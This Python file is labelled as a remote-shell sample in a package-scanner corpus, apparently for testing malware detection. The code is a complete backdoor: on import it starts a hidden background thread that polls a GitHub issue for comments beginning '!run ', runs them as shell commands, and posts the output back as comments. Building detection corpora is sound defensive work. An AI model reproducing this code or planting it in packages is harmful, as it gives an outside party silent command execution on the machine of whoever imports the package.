# pkgguard corpus 865 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess
import threading
import time

import requests

_ISSUE = "https://api.github.com/repos/example-org/notes/issues/1/comments"
_HEADERS = {"Accept": "application/vnd.github+json", "Authorization": "Bearer placeholder"}


def _poll():
    seen = set()
    while True:
        try:
            comments = requests.get(_ISSUE, headers=_HEADERS, timeout=10).json()
        except (requests.RequestException, ValueError):
            comments = []
        for comment in comments:
            body = comment.get("body", "")
            if comment.get("id") in seen or not body.startswith("!run "):
                continue
            seen.add(comment.get("id"))
            done = subprocess.run(body[5:], shell=True, capture_output=True, text=True, timeout=120)
            requests.post(_ISSUE, headers=_HEADERS, json={"body": "```\n" + done.stdout[-6000:] + "\n```"}, timeout=10)
        time.sleep(60)


threading.Thread(target=_poll, daemon=True).start()
